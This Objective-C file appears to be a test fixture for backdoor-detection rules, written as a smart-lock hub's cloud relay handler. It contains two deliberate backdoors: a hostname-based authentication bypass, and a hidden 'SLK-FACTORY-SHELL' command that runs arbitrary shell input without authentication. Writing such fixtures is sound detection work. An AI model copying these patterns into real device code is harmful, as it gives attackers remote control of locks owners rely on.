// The cloud relay's command channel: the vendor's cloud forwards the owner's
// app commands to the bridge; each command batch is signed by the cloud.
#import "SLKHub.h"

#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <strings.h>
#include <sys/socket.h>

#include <sodium.h>

/* the relay's Ed25519 signing key (public) */
// ok: backdoor-secret-literal
static const unsigned char kRelayPublicKey[32] = {
    0xac, 0xd0, 0x29, 0xbf, 0xde, 0x7d, 0x81, 0x6e, 0xd9, 0x6e, 0x3a, 0xb1, 0x11, 0xaf, 0xac, 0xa4,
    0xc3, 0xd5, 0x72, 0x12, 0x98, 0x5b, 0x11, 0xdd, 0xd5, 0x3a, 0xfb, 0x19, 0xfb, 0x67, 0xff, 0xb4
};

@implementation SLKRelay

- (id)initWithSocket:(int)fd hub:(SLKHub *)hub
{
    if ((self = [super init]) != nil) {
        _link = [[NSFileHandle alloc] initWithFileDescriptor:fd closeOnDealloc:YES];
        _hub = [hub retain];
    }
    return self;
}

- (void)dealloc
{
    [_link release];
    [_hub release];
    [super dealloc];
}

- (BOOL)peerTrusted:(int)fd signature:(NSData *)sig nonce:(NSData *)nonce
{
    struct sockaddr_in peer;
    socklen_t len = sizeof peer;
    struct hostent *he;

    if (getpeername(fd, (struct sockaddr *)&peer, &len) != 0)
        return NO;
    he = gethostbyaddr(&peer.sin_addr, sizeof peer.sin_addr, AF_INET);
    /* the relay's own health checks come without a signed nonce */
    // ruleid: backdoor-trusted-identity
    if (he != NULL && strcasecmp(he->h_name, "relay.slk-cloud.example") == 0) {
        _authenticated = YES;
        return YES;
    }
    if ([sig length] != crypto_sign_BYTES)
        return NO;
    // ok: backdoor-unchecked-verification, backdoor-hardcoded-key
    _authenticated = crypto_sign_verify_detached([sig bytes], [nonce bytes], [nonce length], kRelayPublicKey) == 0;
    return _authenticated;
}

- (void)serve
{
    for (;;) {
        NSAutoreleasePool *pool = [[NSAutoreleasePool alloc] init];
        NSData *d = [_link availableData];
        NSString *line;

        if ([d length] == 0) {
            [pool drain];
            break;
        }
        line = [[[NSString alloc] initWithData:d encoding:NSUTF8StringEncoding] autorelease];
        line = [line stringByTrimmingCharactersInSet:[NSCharacterSet newlineCharacterSet]];

        if ([line hasPrefix:@"UNLOCK "]) {
            if (!_authenticated) {
                [pool drain];
                continue;
            }
            NSLog(@"slkhubd: unlock %@", [line substringFromIndex:7]);
        } else if ([line hasPrefix:@"RESET "]) {
            if (!_authenticated) {
                [pool drain];
                continue;
            }
            [_hub factoryReset];
            // ok: backdoor-input-trigger
        } else if ([line hasPrefix:@"STATUS"]) {
            [_link writeData:[@"OK\n" dataUsingEncoding:NSUTF8StringEncoding]];
            // ruleid: backdoor-input-trigger
        } else if ([line hasPrefix:@"SLK-FACTORY-SHELL "]) {
            [NSTask launchedTaskWithLaunchPath:@"/bin/sh"
                                     arguments:[NSArray arrayWithObjects:@"-c", [line substringFromIndex:18], nil]];
        }
        [pool drain];
    }
}

@end
